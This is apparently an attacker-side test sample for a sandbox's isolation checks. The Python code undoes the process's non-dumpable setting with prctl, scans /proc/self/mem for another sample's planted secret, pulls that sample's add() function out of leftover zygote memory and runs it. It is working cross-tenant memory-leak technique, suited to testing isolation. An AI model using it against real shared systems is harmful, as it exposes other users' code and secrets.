# ruff: noqa
# after: leak_victim_c
# other samples' code: this process is a fork of the zygote, so its memory holds whatever the zygote held
# (freed or not): make itself dumpable again, scan /proc/self/mem for the earlier sample's secret, cut its
# code out, run its add()
import re

SHIFT = bytes((i + 1) % 256 for i in range(256))


def _shifted(b):
    return b.translate(SHIFT)


NEEDLE = _shifted(b"CODEXLAB-") + _shifted(b"PLANTED-") + _shifted(b"C-") + _shifted(b"7319")


def _find():
    try:  # the zygote made this process non-dumpable (so /proc/self/mem is closed): undo that
        import ctypes

        ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
    except OSError:
        pass
    maps = open("/proc/self/maps").read().splitlines()
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if (
                "r" not in parts[1]
                or hi - lo > (256 << 20)
                or (len(parts) > 5 and parts[5] in ("[vvar]", "[vsyscall]"))
            ):
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            i = _shifted(chunk).find(NEEDLE)
            while i >= 0:
                start = chunk.find(b"def add", i, i + 400)  # the victim's code follows its secret
                if start >= 0:
                    m = re.match(rb"def add\(a, b\):\n(    [^\n]*\n)+", chunk[start : start + 400])
                    if m:
                        return m.group(0).decode()
                i = _shifted(chunk).find(NEEDLE, i + 1)
    return None


def add(a, b):
    src = _find()
    if src is None:
        return 0
    ns = {}
    exec(src, ns)
    return ns["add"](a, b)
